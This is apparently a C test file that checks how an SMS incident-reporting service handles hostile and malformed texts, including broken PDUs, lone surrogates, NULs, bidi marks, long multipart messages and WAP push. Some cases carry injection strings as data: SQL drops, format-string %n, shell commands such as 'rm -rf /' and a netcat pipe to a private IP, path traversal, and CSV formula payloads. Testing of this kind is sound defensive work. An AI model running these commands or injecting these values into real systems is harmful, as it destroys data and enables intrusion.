// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What people, phones and strangers can put into a text: each case through the real service. After it the next good
 * text must be answered; what came must be kept, as it came where it is text, and the core must be the same
 * process with no more memory than it may have. See bench.h.
 *
 * usage: input_faults TINBAO [FAULT...]    Exit 0 when all is as expected; 1 else, with the directories
 * of what failed left for a look.
 */
#include "tests/faults/bench.h"

#include "gateway/line/tpdu.h"
#include "store/engine.h"

#define CORE_MAX_KB (32 * 1024)
#define MEMBER "+84912000001"

static void begin(struct bench *b)
{
    EXPECT(b, rig_start(&b->r) == 0, "the service could not be started");
    bench_before(b);
}

static int64_t messages(struct bench *b, const char *disposition)
{
    struct db *db = NULL;
    int64_t n = -1;
    if (db_open(&db, b->r.state, DB_READ) == 0 && message_count(db, disposition, 0, &n))
        n = -1;
    db_close(db);
    return n;
}

static void wait_messages(struct bench *b, const char *disposition, int64_t want, int64_t ms)
{
    for (int64_t until_ms = mono_ms() + ms; messages(b, disposition) < want && mono_ms() < until_ms;)
        rig_run(&b->r, 50);
    int64_t got = messages(b, disposition);
    EXPECT(b, got == want, "%lld of %lld messages are %s", (long long)got, (long long)want,
           disposition ? disposition : "kept");
}

/* The end: a good text is answered, the SIM is empty, the core has stayed small and alive. */
static void end(struct bench *b, const char *seen)
{
    char path[64], line[200];
    long kb = 0;
    bench_recovery(b);
    for (int64_t until_ms = mono_ms() + 20000; !rig_drained(&b->r) && mono_ms() < until_ms;)
        rig_run(&b->r, 20);
    EXPECT(b, rig_drained(&b->r), "the SIM is not empty");
    snprintf(path, sizeof(path), "/proc/%d/status", b->r.core);
    FILE *f = fopen(path, "re");
    while (f && fgets(line, sizeof(line), f))
        if (sscanf(line, "VmHWM: %ld kB", &kb) == 1)
            break;
    if (f)
        fclose(f);
    EXPECT(b, kb > 0 && kb <= CORE_MAX_KB, "the core has %ld kB", kb);
    EXPECT(b, messages(b, "failed") == 0, "a message could not be handled");
    EXPECT(b, rig_stop(&b->r, 10000) == 0, "the service did not end");
    if (!b->bad)
        snprintf(b->why, sizeof(b->why), "%s; core %.1f MB", seen, (double)kb / 1024);
}

/* --- the kept text ----------------------------------------------------------------------- */

struct search {
    const char *mark;
    char text[400]; /* the message as it is kept */
    int n;          /* how many */
};

static void find(struct bench *b, struct search *s)
{
    struct db *db = NULL;
    char sql[200], count[24] = "0";
    s->n = 0;
    if (db_open(&db, b->r.state, DB_READ) == 0) {
        snprintf(sql, sizeof(sql), "SELECT COUNT(*) FROM incident WHERE text LIKE '%%%s%%'", s->mark);
        if (db_exec(db, sql, count, sizeof(count)) == 0)
            s->n = atoi(count);
        snprintf(sql, sizeof(sql), "SELECT body FROM message WHERE body LIKE '%%%s%%'", s->mark);
        if (db_exec(db, sql, s->text, sizeof(s->text)))
            s->n = -1;
    }
    db_close(db);
}

static struct sms_part part_of(const char *text)
{
    struct sms_part p = {.sender = MEMBER, .total = 1, .seq = 1, .coding = SMS_UCS2};
    p.body_len = (uint16_t)utf8_to_utf16be(text, p.body, 140);
    return p;
}

static void give(struct bench *b, const struct sms_part *p)
{
    EXPECT(b, air_part(b->r.air, p) == 0, "the network did not take a part");
}

/* A member's text of these units becomes one report; its text, as it is kept, in s->text. */
static void report(struct bench *b, const struct sms_part *p, struct search *s)
{
    int64_t reports = messages(b, "report");
    snprintf(b->watched, sizeof(b->watched), MEMBER);
    b->watched_n = 0;
    int64_t from_ms = mono_ms();
    give(b, p);
    EXPECT(b, bench_wait(b, 10000, bench_answered), "it was not answered");
    EXPECT(b, mono_ms() - from_ms < 5000, "it was answered after %.1f s", (double)(mono_ms() - from_ms) / 1000);
    wait_messages(b, "report", reports + 1, 5000);
    find(b, s);
    EXPECT(b, s->n == 1, "%d incidents hold it", s->n);
}

/* Words that mean something elsewhere are kept as they are. */
static void is_text(struct bench *b, const char *const *words, size_t n)
{
    begin(b);
    for (size_t i = 0; i < n && !b->bad; i++) {
        char text[200], mark[32];
        snprintf(mark, sizeof(mark), "het so %zu", i);
        snprintf(text, sizeof(text), "BC man de co bac %s %s", words[i], mark);
        struct sms_part p = part_of(text);
        struct search s = {.mark = mark};
        report(b, &p, &s);
        EXPECT(b, !strcmp(s.text, text), "sent: %s; kept: %.100s", words[i], s.text);
    }
    end(b, "kept as text, octet by octet");
}

static void sql(struct bench *b)
{
    static const char *const words[] = {"'; DROP TABLE incident; --", "\" OR 1=1 --",
                                        "' UNION SELECT phone FROM \"user\"", "$1 ?1 :a @b", "%' ESCAPE '\\"};
    is_text(b, words, ARRAY_LEN(words));
}

static void format(struct bench *b)
{
    static const char *const words[] = {"%n%n%n%n%s%s%s", "%999999999d%*.*f", "{code}{name}{text}{5}", "%1$n",
                                        "\\x41\\0\\n"};
    is_text(b, words, ARRAY_LEN(words));
}

static void shell(struct bench *b)
{
    static const char *const words[] = {"$(touch /tmp/x) `id`", "; rm -rf / #", "| nc 10.0.0.1 9 &", "\"$HOME\" ${IFS}",
                                        "../../../etc/passwd"};
    is_text(b, words, ARRAY_LEN(words));
}

static void csv(struct bench *b)
{
    static const char *const words[] = {"=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd", "@SUM(1)", "\"a\";\"b\",c"};
    is_text(b, words, ARRAY_LEN(words));
}

/* --- characters -------------------------------------------------------------------------- */

static void surrogates(struct bench *b)
{
    static const uint16_t lone[][2] = {{0xD83D, 0x0041}, {0xDE00, 0x0042}, {0xDE00, 0xD83D}, {0xDBFF, 0xDBFF}};
    begin(b);
    for (size_t i = 0; i < ARRAY_LEN(lone) && !b->bad; i++) {
        char text[80], mark[24];
        snprintf(mark, sizeof(mark), "het so %zu", i);
        snprintf(text, sizeof(text), "BC man de co bac ## %s", mark);
        struct sms_part p = part_of(text);
        for (int k = 0; k < 2; k++) {
            p.body[2 * (17 + k)] = (uint8_t)(lone[i][k] >> 8);
            p.body[2 * (17 + k) + 1] = (uint8_t)lone[i][k];
        }
        struct search s = {.mark = mark};
        report(b, &p, &s);
        EXPECT(b, strstr(s.text, "\xEF\xBF\xBD") != NULL, "no U+FFFD in: %.60s", s.text);
    }
    end(b, "U+FFFD where they stood");
}

static void nul(struct bench *b)
{
    begin(b);
    struct sms_part p = part_of("BC man de co bac truoc#sau het so 0");
    p.body[2 * 22] = p.body[2 * 22 + 1] = 0;
    struct search s = {.mark = "het so 0"};
    report(b, &p, &s);
    EXPECT(b, strstr(s.text, "truoc") && strstr(s.text, "sau"), "kept: %.60s", s.text);
    end(b, "nothing behind the NUL is lost");
}

static void marks(struct bench *b)
{
    static const char *const texts[] = {
        "\u200FBC man de co bac o quan het so 0", "B\u200EC m\u200Ban de co bac o quan het so 1",
        "BC man de co bac \u202Eo quan\u202C \u2066x\u2069 het so 2", "\uFEFFBC man de co bac o quan het so 3"};
    begin(b);
    for (size_t i = 0; i < ARRAY_LEN(texts) && !b->bad; i++) {
        char mark[24];
        struct sms_part p = part_of(texts[i]);
        struct search s = {.mark = mark};
        snprintf(mark, sizeof(mark), "het so %zu", i);
        report(b, &p, &s);
    }
    end(b, "keywords are found behind and between them");
}

/* What makes careless patterns take for ever. */
static void regex(struct bench *b)
{
    char text[140];
    begin(b);
    for (int i = 0; i < 8 && !b->bad; i++) {
        static const char *const units[] = {"a", "ab ", "BC ", "1", "09", "thon ", "(a+)+", " "};
        struct sbuf t = sbuf_on(text, sizeof(text));
        char mark[24];
        snprintf(mark, sizeof(mark), "het so %d", i);
        sbuf_add(&t, "BC man de co bac o ");
        while (t.len < 55)
            sbuf_add(&t, units[i]);
        sbuf_addf(&t, "! %s", mark);
        struct sms_part p = part_of(text);
        struct search s = {.mark = mark};
        report(b, &p, &s);
    }
    end(b, "each answered within 5 s");
}

/* --- PDUs -------------------------------------------------------------------------------- */

static void raw(struct bench *b, const char *hex, size_t octets)
{
    uint8_t pdu[200];
    int n = tpdu_unhex(hex, strlen(hex), pdu, sizeof(pdu));
    EXPECT(b, n > 0 && air_raw(b->r.air, pdu, octets ? octets : (size_t)n) == 0, "the network did not take a PDU");
}

static void udhl(struct bench *b)
{
    begin(b);
    raw(b, "07914889200009F1440B914819020000F100046211221200008205FF41424344", 0);
    raw(b, "07914889200009F1440B914819020000F10008621122120000820AFF000301020304050607", 0);
    raw(b, "07914889200009F1440B914819020000F100006211221200008203050003", 0);
    wait_messages(b, "corrupt", 3, 20000);
    end(b, "3 kept as corrupt");
}

/* "BC man de co bac", cut after each of its octets. */
static void truncated(struct bench *b)
{
    static const char whole[] =
        "07914889200009F1040B914819020000F100086211221200008216004200430020006D0061006E002000640065";
    int n = (int)(sizeof(whole) - 1) / 2;
    begin(b);
    int64_t before = messages(b, NULL);
    for (int k = 1; k < n; k++)
        raw(b, whole, (size_t)k);
    wait_messages(b, NULL, before + n - 1, 60000);
    EXPECT(b, messages(b, "corrupt") == n - 1, "%lld of %d are corrupt", (long long)messages(b, "corrupt"), n - 1);
    end(b, "every cut is kept as corrupt");
}

/* 255 parts, whole; and another with every second one, which is handled after join_parts_s (10 s here). */
static void parts_255(struct bench *b)
{
    begin(b);
    int64_t reports = messages(b, "report");
    for (int hole = 0; hole < 2; hole++) {
        for (int seq = 1; seq <= 255; seq += 1 + hole) {
            char text[80];
            snprintf(text, sizeof(text), seq == 1 ? "BC man de co bac o quan, phan %d" : " phan %d cua mot tin dai",
                     seq);
            struct sms_part p = part_of(text);
            p.ref = (uint16_t)(40 + hole);
            p.ref_bits = 8;
            p.total = 255;
            p.seq = (uint8_t)seq;
            give(b, &p);
        }
        wait_messages(b, "report", reports + 1 + hole, 60000);
    }
    end(b, "two reports, one of them with holes");
}

/* --- what is no text --------------------------------------------------------------------- */

static void type_0(struct bench *b)
{
    struct sms_part p = part_of("BC man de danh nhau o cau");
    begin(b);
    p.silent = 1;
    snprintf(b->watched, sizeof(b->watched), MEMBER);
    int arrived = b->arrived, answers = b->watched_n;
    give(b, &p);
    wait_messages(b, "silent", 1, 10000);
    rig_run(&b->r, 2000);
    EXPECT(b, b->watched_n == answers && b->arrived == arrived, "something was sent for it");
    end(b, "kept, and nobody hears of it");
}

/* Class 0 (TS 23.038 clause 4), from a member: DCS 0x10 and 0xF0. */
static void flash(struct bench *b)
{
    begin(b);
    int64_t reports = messages(b, "report");
    snprintf(b->watched, sizeof(b->watched), MEMBER);
    b->watched_n = 0;
    /* "BC man de co bac o quan" in 7 bits */
    uint8_t pdu[200];
    static const uint8_t dcs[] = {0x10, 0xF0};
    for (size_t i = 0; i < 2; i++) {
        struct sms_part p = part_of(i ? "BC man de co bac o cho" : "BC man de co bac o quan");
        p.coding = SMS_GSM7;
        int smsc = tpdu_put_smsc("+84980200030", pdu, sizeof(pdu));
        int n = tpdu_put_deliver(&p, pdu + smsc, sizeof(pdu) - (size_t)smsc);
        /* first octet, address length, type, 6 octets of digits, PID, DCS */
        pdu[smsc + 2 + (pdu[smsc + 1] + 1) / 2 + 2] = dcs[i];
        EXPECT(b, n > 0 && air_raw(b->r.air, pdu, (size_t)(smsc + n)) == 0, "the network did not take a PDU");
    }
    wait_messages(b, "report", reports + 2, 10000);
    EXPECT(b, bench_wait(b, 10000, bench_answered), "a flash text was not answered");
    end(b, "reports as any other");
}

/* An MMS notification: 8-bit data to port 2948 (OMA WAP push), from a short code and from a number. */
static void wap_push(struct bench *b)
{
    static const char *const pushes[] = {
        "07914889200009F1440481191900F562112212000082180605040B8423F0010603BEAF848C82983034003D8D908A80",
        "07914889200009F1440B914819020000F900F562112212000082180605040B8423F0010603BEAF848C82983034003D8D908A80"};
    begin(b);
    int arrived = b->arrived;
    for (size_t i = 0; i < ARRAY_LEN(pushes); i++)
        raw(b, pushes[i], 0);
    wait_messages(b, "binary", 2, 10000);
    rig_run(&b->r, 2000);
    EXPECT(b, b->arrived == arrived, "a WAP push was answered");
    end(b, "kept as binary, no answer");
}

static const struct bench_case cases[] = {
    {"input", "parts-255", parts_255, NULL, NULL, "join_parts_s = 10;"},
    {"input", "udhl-beyond-udl", udhl, NULL, NULL, NULL},
    {"input", "truncated-pdu", truncated, NULL, NULL, NULL},
    {"input", "lone-surrogates", surrogates, NULL, NULL, NULL},
    {"input", "nul", nul, NULL, NULL, NULL},
    {"input", "right-to-left-marks", marks, NULL, NULL, NULL},
    {"input", "sql", sql, NULL, NULL, NULL},
    {"input", "format-string", format, NULL, NULL, NULL},
    {"input", "shell", shell, NULL, NULL, NULL},
    {"input", "csv-formula", csv, NULL, NULL, NULL},
    {"input", "costly-regex", regex, NULL, NULL, NULL},
    {"input", "type-0", type_0, NULL, NULL, NULL},
    {"input", "flash", flash, NULL, NULL, NULL},
    {"input", "wap-push", wap_push, NULL, NULL, NULL},
};

int main(int argc, char **argv)
{
    return bench_main(argc, argv, cases, ARRAY_LEN(cases));
}
